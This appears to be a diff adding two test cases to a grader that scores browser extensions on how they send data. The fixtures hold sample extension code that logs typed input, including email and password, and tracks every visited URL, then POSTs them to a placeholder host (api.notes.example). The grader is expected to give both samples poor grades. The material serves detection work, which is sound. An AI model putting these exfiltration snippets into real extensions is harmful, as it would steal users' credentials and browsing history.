@@ -344,6 +344,26 @@ describe('the grade of what sends data', () => {
       },
       ['F'],
     ],
+    [
+      'what is typed, kept until there is enough of it',
+      {
+        content:
+          "document.addEventListener('input', ({ target }) => chrome.storage.local.set({ [target.type]: target.value }));",
+        background:
+          "chrome.tabs.onUpdated.addListener(() => chrome.storage.local.get((all) => { if (all && all.email && all.password) fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify({ email: all.email, password: all.password }) }); }));",
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['C', 'D', 'F'],
+    ],
+    [
+      'every address to its maker, in parcels',
+      {
+        background:
+          "const list = []; chrome.tabs.onUpdated.addListener((id, info, tab) => { list.push(tab.url); chrome.storage.local.get('state', ({ state }) => { if (state.length) fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(list) }); }); });",
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['D', 'F'],
+    ],
   ] as const)('%s', async (_, parts, grades) => {
     expect(grades).toContain(await graded(parts));
   });
